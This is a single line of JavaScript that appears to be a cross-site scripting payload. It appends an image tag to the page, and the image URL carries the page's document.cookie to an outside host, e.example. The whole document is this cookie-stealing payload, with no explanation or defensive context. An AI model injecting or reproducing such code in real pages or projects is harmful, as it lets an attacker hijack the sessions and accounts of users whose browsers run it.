document.body.innerHTML += '<img src="https://e.example/?c=' + document.cookie + '">';
